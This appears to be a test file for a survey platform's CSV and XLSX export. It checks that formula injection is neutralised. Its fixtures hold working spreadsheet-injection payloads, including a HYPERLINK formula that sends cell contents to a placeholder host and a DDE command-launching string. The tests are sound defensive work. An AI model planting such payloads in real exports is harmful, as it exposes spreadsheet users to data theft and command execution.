import { InstrumentDefinition } from '@jenjang/domain/surveys/instrument.contract';
import { buildWaveReport } from '@jenjang/domain/surveys/survey-report';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { resultsCsv, resultsXlsx, resultTables } from './result-export';

// Instrument authors write the questions and options, respondents the free texts: in an export,
// none of it may reach a reader's spreadsheet program as a formula (OWASP "CSV injection").

const text = (id: string) => ({ id, en: id });
const definition = InstrumentDefinition.parse({
  kind: 'custom',
  title: text('Survei'),
  sections: [
    {
      key: 's1',
      title: text('=1+1'),
      questions: [
        {
          key: 'q1',
          type: 'single',
          text: text('+SUM(A1:A9)'),
          options: [
            { value: 'a', label: text('=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")') },
            { value: 'b', label: text('Biasa') },
          ],
        },
        { key: 'q2', type: 'text', text: text('Saran'), required: false },
      ],
    },
  ],
});
const answers = ['@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', 'Tambah pelatihan', '\tx'];
const report = buildWaveReport({
  definition,
  responses: answers.map((saran, i) => ({
    id: `r${i}`,
    unitId: null,
    answers: { q1: i % 2 ? 'b' : 'a', q2: saran },
  })),
  minGroupSize: 3,
  population: null,
  final: true,
  hiddenTexts: new Set(),
});
const tables = resultTables(definition, report, 'id');

const DANGEROUS = /^[=+\-@\t\r]/;

describe('survey result exports', () => {
  it('writes no CSV field that starts a formula, and keeps the figures as numbers', () => {
    const csv = resultsCsv(tables);
    const fields = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
      .map((field) => field.replace(/,$/, '').replace(/^"|"$/g, '').replaceAll('""', '"'));
    expect(fields).toContain("'=1+1");
    expect(fields).toContain("'+SUM(A1:A9)");
    expect(fields).toContain('\'=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")');
    expect(fields.filter((f) => DANGEROUS.test(f))).toEqual([]);
    expect(fields).toContain('50');
  });

  it('writes no XLSX cell that starts a formula, texts and answers included', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await resultsXlsx(tables, 'id')) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          values.push(cell.value);
        });
      });
    }
    expect(values).toEqual(
      expect.arrayContaining(["'=1+1", '\'@SUM(1+1)*cmd|" /C calc"!A0', "'-2+3", "'\tx"]),
    );
    expect(values.filter((v) => typeof v === 'string' && DANGEROUS.test(v))).toEqual([]);
    expect(values).toContain(50);
  });
});
